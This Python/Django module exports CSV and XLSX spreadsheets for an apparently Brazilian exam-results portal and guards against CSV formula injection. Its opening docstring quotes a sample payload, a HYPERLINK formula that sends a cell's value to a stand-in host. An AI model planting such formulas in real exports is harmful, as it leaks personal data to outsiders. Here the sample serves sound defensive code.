"""CSV and XLSX exports: every spreadsheet the application writes goes through this module.

Names, inscrição numbers and other text in an export may come from candidates (the portal's
`nome_social`) or from an imported file. A spreadsheet opening a CSV, or an XLSX cell stored
as a formula, runs text like `=HYPERLINK("http://x/?"&C2,"Ver")`: CSV (formula) injection.
So, following the OWASP rule for CSV injection:

- a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with a
  single quote (`'`), which spreadsheets show as text and never execute;
- XLSX text cells are written explicitly as strings (data type "s"): never a formula, never
  an error code such as `#N/A`; characters XLSX cannot hold (control characters) are
  dropped instead of failing the whole export;
- real numbers (int, Decimal, float) stay numbers: numeric cells in XLSX, decimal comma in
  the CSV (Excel in pt-BR); a negative number is a number, not text to neutralise.

Dates are written as dates (XLSX, shown DD/MM/AAAA) or DD/MM/AAAA (CSV); None is an empty
cell. In XLSX a number keeps the decimals it has (a nota 95.5000 is the number 95.5 shown
"0.0000"), an integer is shown without decimals.

Headers: the callers name their columns with machine-friendly snake_case keys ("posicao",
"nota", "lista_de_origem"). The CSV keeps them (open data: stable keys a program reads, the
same as the JSON's); the XLSX, made to be read by people, shows each key's Portuguese label
(`ROTULOS`: "Posição", "Nota final", "Lista de origem"). A key without a label is written as
given.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from django.http import Http404, HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from django.utils.translation import gettext_lazy as _

from comum.formatos import data_br, data_hora_br

#: First characters that make a spreadsheet treat a cell as a formula (OWASP, CSV injection).
PERIGOSOS = ("=", "+", "-", "@", "\t", "\r")
FORMATOS = ("csv", "xlsx")
TIPO_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TIPO_CSV = "text/csv; charset=utf-8"
SEPARADOR_CSV = ";"  # Excel in pt-BR: the comma is the decimal separator

#: The XLSX header of each column key (the CSV and the JSON keep the keys).
ROTULOS = {
    "lista": _("Lista"), "posicao": _("Posição"), "inscricao": _("Inscrição"),
    "nome": _("Nome"), "cpf": _("CPF (mascarado)"), "nota": _("Nota final"),
    "sub_judice": _("Sub judice"), "vaga": _("Vaga"), "lista_de_origem": _("Lista de origem"),
    "convocada_em": _("Convocada em"), "prazo": _("Prazo para os documentos"),
    "nomeacao": _("Nomeação"), "posse": _("Posse"), "exercicio": _("Exercício"),
    "situacao": _("Situação"), "encerramento_em": _("Encerramento em"),
    "fundamento": _("Fundamento legal"), "codigo": _("Código do cargo"),
    "cargo": _("Cargo"), "vagas_edital": _("Vagas do edital"),
    "vagas_surgidas": _("Vagas surgidas"), "vagas_total": _("Total de vagas"),
    "vagas": _("Vagas"), "explicacao": _("Como foi calculado"),
}
#: XLSX display formats: dates as DD/MM/AAAA, integers without decimals.
FORMATO_DATA = "dd/mm/yyyy"
FORMATO_DATA_HORA = "dd/mm/yyyy hh:mm"


def rotulo(coluna: str) -> str:
    """The XLSX header of a column key (the key itself when it has no label)."""
    return str(ROTULOS.get(coluna, coluna))


def neutralizar(texto: str) -> str:
    """The text as a spreadsheet will show it and never execute it."""
    return "'" + texto if texto.startswith(PERIGOSOS) else texto


def _booleano(valor: bool) -> str:
    return "sim" if valor else "não"


def _numero_csv(valor: int | float | Decimal) -> str:
    if isinstance(valor, int):
        return str(valor)
    if isinstance(valor, float):
        valor = Decimal(repr(valor))
    return format(valor, "f").replace(".", ",")


def celula_csv(valor: Any) -> str:
    """One cell's CSV text: numbers with a decimal comma, dates DD/MM/AAAA, text neutralised."""
    if valor is None:
        return ""
    if isinstance(valor, bool):
        return _booleano(valor)
    if isinstance(valor, int | float | Decimal):
        return _numero_csv(valor)
    if isinstance(valor, dt.datetime):
        return data_hora_br(valor)
    if isinstance(valor, dt.date):
        return data_br(valor)
    return neutralizar(str(valor))


def escrever_csv(saida, colunas: Sequence[str], linhas: Iterable[Sequence[Any]]) -> None:
    """Header and rows to a text stream, `;`-separated, every cell through `celula_csv`."""
    escritor = csv.writer(saida, delimiter=SEPARADOR_CSV)
    escritor.writerow([celula_csv(c) for c in colunas])
    for linha in linhas:
        escritor.writerow([celula_csv(c) for c in linha])


def gerar_csv(colunas: Sequence[str], linhas: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with BOM (so Excel reads the accents), `;`-separated."""
    buffer = io.StringIO()
    escrever_csv(buffer, colunas, linhas)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _celula_xlsx(folha, valor: Any):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(valor, bool):
        valor = _booleano(valor)
    elif isinstance(valor, dt.datetime) and timezone.is_aware(valor):
        valor = timezone.make_naive(valor)  # XLSX has no time zones: local time
    if valor is None or isinstance(valor, int | float | Decimal | dt.date):
        celula = WriteOnlyCell(folha, value=valor)
        if isinstance(valor, dt.datetime):
            celula.number_format = FORMATO_DATA_HORA
        elif isinstance(valor, dt.date):
            celula.number_format = FORMATO_DATA
        elif isinstance(valor, int):
            celula.number_format = "0"
        elif isinstance(valor, Decimal) and isinstance(
                expoente := valor.as_tuple().exponent, int) and expoente < 0:
            celula.number_format = "0." + "0" * -expoente  # the decimals the data has
        return celula
    texto = neutralizar(ILLEGAL_CHARACTERS_RE.sub("", str(valor)))
    celula = WriteOnlyCell(folha, value=texto)
    celula.data_type = "s"  # a string, whatever it looks like: never a formula or error code
    return celula


def gerar_xlsx(colunas: Sequence[str], linhas: Iterable[Sequence[Any]],
               titulo: str = "Planilha") -> bytes:
    """One sheet (write-only: constant memory), every cell through `_celula_xlsx`; the
    header row shows each column's label (`ROTULOS`)."""
    return gerar_xlsx_folhas([Folha(titulo, [[rotulo(c) for c in colunas]], linhas)])


@dataclass(frozen=True)
class Folha:
    """One sheet of `gerar_xlsx_folhas`: its title; notes (one text per row, first, spilling
    over the empty cells beside them); header rows written as given, in bold; the rows; and
    the width of its first columns in characters (Excel's default else; with widths, the
    cells of the rows wrap their text)."""

    titulo: str
    cabecalhos: Sequence[Sequence[Any]] = ()
    linhas: Iterable[Sequence[Any]] = ()
    larguras: Sequence[int] = ()
    notas: Sequence[str] = ()


def _titulo_folha(titulo: str) -> str:
    """Sheet titles: at most 31 characters, none of []:*?/\\"""
    return "".join(c for c in str(titulo) if c not in "[]:*?/\\")[:31]


def gerar_xlsx_folhas(folhas: Sequence[Folha]) -> bytes:
    """Several sheets, every cell through `_celula_xlsx` (write-only: constant memory)."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    livro = Workbook(write_only=True)
    for dados in folhas:
        folha = livro.create_sheet(_titulo_folha(dados.titulo))
        for indice, largura in enumerate(dados.larguras, start=1):
            folha.column_dimensions[get_column_letter(indice)].width = largura
        for nota in dados.notas:
            folha.append([_celula_xlsx(folha, nota)])
        if dados.notas:
            folha.append([])
        for cabecalho in dados.cabecalhos:
            celulas = [_celula_xlsx(folha, c) for c in cabecalho]
            for celula in celulas:
                celula.font = Font(bold=True)
            folha.append(celulas)
        for linha in dados.linhas:
            celulas = [_celula_xlsx(folha, c) for c in linha]
            if dados.larguras:
                for celula in celulas:
                    celula.alignment = Alignment(wrap_text=True, vertical="top")
            folha.append(celulas)
    buffer = io.BytesIO()
    livro.save(buffer)
    return buffer.getvalue()


def resposta_modelo(formato: str, nome: str, cabecalho: Sequence[str],
                    instrucoes: Folha, titulo: str) -> HttpResponse:
    """The download of an import's template, `nome`.csv or `nome`.xlsx (404 for another
    format): the header row with the importer's column names as the importer reads them
    (never `ROTULOS`' labels) and no data row; the XLSX adds the sheet `instrucoes` (the
    CSV's instructions are on the import page). Every cell goes through the neutraliser: a
    cargo's name typed by RH is data, never a formula."""
    if formato == "csv":
        resposta = HttpResponse(gerar_csv(cabecalho, []), content_type=TIPO_CSV)
    elif formato == "xlsx":
        resposta = HttpResponse(gerar_xlsx_folhas([Folha(titulo, [cabecalho]), instrucoes]),
                                content_type=TIPO_XLSX)
    else:
        raise Http404
    resposta["Content-Disposition"] = content_disposition_header(True, f"{nome}.{formato}")
    return resposta


def resposta_exportacao(formato: str, nome: str, colunas: Sequence[str],
                        linhas: Iterable[Sequence[Any]], titulo: str = "Planilha", *,
                        rotulos: Sequence[Any] | None = None, privada: bool = False
                        ) -> HttpResponse:
    """The download of `nome`.csv or `nome`.xlsx; 404 for another format. `rotulos`: the
    XLSX's headers, where the caller labels its own columns (else each key's `ROTULOS`);
    `privada`: an export of personal data for RH, which no cache keeps."""
    if formato == "csv":
        resposta = HttpResponse(gerar_csv(colunas, linhas), content_type=TIPO_CSV)
    elif formato == "xlsx":
        cabecalho = [str(r) for r in rotulos] if rotulos is not None else colunas
        resposta = HttpResponse(gerar_xlsx(cabecalho, linhas, titulo), content_type=TIPO_XLSX)
    else:
        raise Http404
    resposta["Content-Disposition"] = content_disposition_header(True, f"{nome}.{formato}")
    if privada:
        resposta["Cache-Control"] = "private, no-store"
    return resposta
